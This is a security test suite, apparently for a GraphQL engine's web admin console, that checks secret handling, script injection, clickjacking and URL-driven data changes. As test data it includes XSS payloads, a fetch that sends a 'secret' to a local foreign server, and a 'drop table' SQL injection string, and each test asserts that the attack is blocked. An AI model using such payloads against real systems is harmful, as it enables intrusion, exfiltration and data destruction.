/** Attacks on users of the console: foreign pages that embed it or are embedded in it, and eavesdroppers. */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page, Request } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hasBrowser } from "../../support/browser.ts";
import { openConsole, type TestConsole } from "../../support/console.ts";
import { query } from "../../support/database.ts";

const secret = "s3cret-of-the-administrator";

describe.skipIf(!hasBrowser)("Attacks on the console", { timeout: 120_000 }, () => {
  let opened: TestConsole;
  let page: Page;
  let stranger: Server;
  const requests: Request[] = [];

  beforeAll(async () => {
    opened = await openConsole({ ENGINE_GRAPHQL_ADMIN_SECRET: secret });
    await query(opened.server.databaseUrl, "create table album (id int primary key, title text)");
    const { status } = await opened.server.post(
      "/v1/metadata",
      { type: "pg_track_table", args: { table: "album" } },
      { "x-engine-admin-secret": secret },
    );
    expect(status).toBe(200);
    page = await opened.newPage();
    page.on("request", (request) => requests.push(request));
    stranger = createServer((_request, response) => {
      response.setHeader("content-type", "text/html");
      response.end(`<iframe id="inside" src="${opened.server.url}/console"></iframe>`);
    });
    await new Promise<void>((resolve) => stranger.listen(0, "127.0.0.1", resolve));
  }, 180_000);
  afterAll(async () => {
    await opened?.close();
    await new Promise((resolve) => stranger.close(resolve));
  });

  const visit = async (path: string, ready: string): Promise<void> => {
    await page.goto(`${opened.server.url}/console/${path}`);
    await page.getByText(ready).first().waitFor();
  };

  it("The console sends the admin secret only in a header and stores it only in the tab", async () => {
    await page.goto(`${opened.server.url}/console`);
    await page.getByLabel("Admin secret").fill(secret);
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "API" }).waitFor();
    await visit("data/default", "1 of 1 tracked");
    await visit("data/default/public/album", "0 of 0 rows");
    await visit("data/default/sql", "No results yet");
    await visit("permissions", "No roles");
    await visit("code", "Select a file");
    await visit("health", "The metadata has no inconsistent objects.");
    expect(requests.length).toBeGreaterThan(20);
    const carriers = requests.filter((request) => request.headers()["x-engine-admin-secret"] === secret);
    expect(carriers.length).toBeGreaterThan(5);
    for (const request of requests) {
      expect(request.url()).not.toContain(secret);
      expect(request.postData() ?? "").not.toContain(secret);
      expect(new URL(request.url()).origin).toBe(opened.server.url);
    }
    const kept = (await page.evaluate(`({
      session: Object.values(sessionStorage),
      local: { ...localStorage },
      cookie: document.cookie,
      page: document.documentElement.outerHTML,
      address: location.href,
    })`)) as Readonly<Record<string, unknown>>;
    expect(kept.session).toContain(secret);
    const { session: _, ...others } = kept;
    expect(JSON.stringify(others)).not.toContain(secret);
    expect(opened.server.log.join("\n")).not.toContain(secret);
    expect(opened.complaints).toEqual([]);
  });

  it("Injected code does not run in the console and cannot send data away", async () => {
    const harm = "document.title = 'owned'";
    const attempts = [
      `const script = document.createElement("script"); script.textContent = ${JSON.stringify(harm)}; document.body.append(script)`,
      `document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="document.title = 1">')`,
      `document.body.setAttribute("onclick", ${JSON.stringify(harm)}); document.body.click()`,
      `const a = document.createElement("a"); a.href = ${JSON.stringify(`javascript:${harm}`)}; document.body.append(a); a.click()`,
      `setTimeout(${JSON.stringify(harm)}, 0)`,
    ];
    for (const attempt of attempts) {
      await page.evaluate(`(() => { try { ${attempt} } catch (error) { console.error(String(error)) } })()`);
    }
    const { port } = stranger.address() as AddressInfo;
    const address = JSON.stringify(`http://127.0.0.1:${port}/`);
    const sent = await page.evaluate(
      `fetch(${address}, { method: "POST", body: "secret", mode: "no-cors" }).then(() => "sent", () => "blocked")`,
    );
    expect(sent).toBe("blocked");
    await expect.poll(() => opened.complaints.length).toBeGreaterThanOrEqual(attempts.length);
    expect(await page.title()).not.toMatch(/owned|^1$/);
  });

  it("A page of another origin cannot frame the console", async () => {
    const { port } = stranger.address() as AddressInfo;
    const foreignPage = await opened.newPage();
    await foreignPage.goto(`http://127.0.0.1:${port}/`);
    await expect.poll(() => foreignPage.frames().length).toBe(2);
    const inside = foreignPage.frames()[1];
    await inside?.waitForLoadState();
    expect(await inside?.getByLabel("Admin secret").count()).toBe(0);
    expect(inside?.url()).not.toContain("/console/api");
    expect(opened.complaints.join("\n")).toMatch(/frame-ancestors|X-Frame-Options/);
  });

  it("Opening an address of the console changes no data", async () => {
    const before = requests.length;
    const where = encodeURIComponent(`{"title": {"_eq": "'; drop table album --"}}`);
    await visit(`data/default/public/album?where=${where}`, "0 of 0 rows");
    const bodies = requests.slice(before).map((request) => request.postData() ?? "");
    expect(bodies.some((body) => body.includes("drop table"))).toBe(true);
    for (const body of bodies) expect(body).not.toMatch(/"type":"(?:pg_)?(?:run_sql|insert|update|delete|drop|create)/);
    await page.getByText("0 of 0 rows").waitFor();
  });
});
